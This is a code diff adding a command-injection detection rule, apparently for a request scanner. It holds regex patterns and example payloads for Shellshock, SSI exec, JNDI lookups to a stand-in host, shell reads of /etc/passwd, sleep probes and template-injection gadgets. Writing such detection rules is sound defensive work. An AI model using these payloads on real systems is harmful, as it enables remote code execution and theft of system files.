@@ -1,0 +1,64 @@
+import { requestValueBefore } from '../../request-value.js';
+import type { Rule } from '../../rule.js';
+
+export const rule: Rule = {
+  pattern: 'command_injection',
+  variant: 'payload',
+  threat: 'INJECTION',
+  direction: 'inbound',
+  severity: 'high',
+  confidence: 'high',
+  group: 'command-injection',
+  about:
+    'A text that exists for nothing but breaking into a program that passes it on: to a shell, a page or a logger.',
+  anatomy: 'function definitions of Shellshock, server-side includes, JNDI look-ups, separators before system paths',
+  source: 'https://cwe.mitre.org/data/definitions/77.html and https://nvd.nist.gov/vuln/detail/CVE-2014-6271',
+  match: [
+    { re: /\(\) ?\{ ?:; ?\}/ },
+    { re: /\(\) ?\{ ?_; ?\} ?>_\[/ },
+    {
+      re: /:\s\(\) ?\{/,
+      accept: ({ before, after }) =>
+        /(?:^|\n)[\w-]{3,30}$/.test(before) &&
+        /^\s*(?:$|:|_)/.test(after) &&
+        requestValueBefore(`${before}: `) !== undefined,
+    },
+    { re: /<!--\s?#\s?(?:exec|include)\s+(?:cmd|cgi|virtual|file)=/i },
+    { re: /jndi:(?:ldaps?|rmi|dns|iiop|corba|nis|nds|https?):\/\// },
+    { re: /\$\{(?:jndi|\$\{(?:lower|upper|env|sys|::-|:)|(?:lower|upper):[jndi]\})/ },
+    {
+      re: /[;|&`]\s?(?:\/bin\/)?(?:cat|head|tail|more|less|nl|tac|strings)\s+(?:\/etc\/(?:passwd|shadow|group|hosts)|\/proc\/self|\.\.\/\.\.\/)/,
+    },
+    {
+      re: /(?:'|")?\s?(?:;|\|\|?|&&?)\s?(?:sleep|ping\s+-[nci])\s+\d{1,3}(?:\s+127\.0\.0\.1)?\s?(?:;|\||&|#|'|")/,
+      accept: ({ before }) => requestValueBefore(before) !== undefined,
+    },
+    { re: /(?<=\()(?:T\(java\.lang\.Runtime\)|new java\.lang\.ProcessBuilder)/ },
+    { re: /\{\{[^}\n]*(?:__class__|__globals__|__import__|__subclasses__|popen\s*\(|getRuntime)/, window: 300 },
+    { re: /%\{\(?#[\w.]+=[^\n]*@java\.lang\.Runtime/, window: 600 },
+    { re: /@java\.lang\.Runtime@getRuntime/ },
+    { re: /';?\s?exec\s(?:master\.\.)?xp_cmdshell/i },
+    {
+      re: /<\?xml[^]*<!ENTITY\s+%?\s*\w+\s+SYSTEM\s+["'](?:file|https?|expect|php|ftp):/,
+      window: 600,
+      accept: ({ text }) => /file:\/\/\/(?:etc|proc|c:)|expect:|php:/i.test(text),
+    },
+  ],
+  examples: {
+    fires: [
+      '() { :;}; /bin/sleep 5',
+      '<!--#exec cmd="/bin/cat /etc/passwd"-->',
+      '${jndi:ldap://files.invalid/a}',
+      'x; cat /etc/passwd',
+      '${${lower:j}ndi:ldap://files.invalid/a}',
+      "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+    ],
+    silent: [
+      'function f() { return 1; }',
+      '<!-- #include the header -->',
+      'the JNDI lookup of a data source: java:comp/env',
+      'first; cat file.txt',
+      '{{ user.name }}',
+    ],
+  },
+};
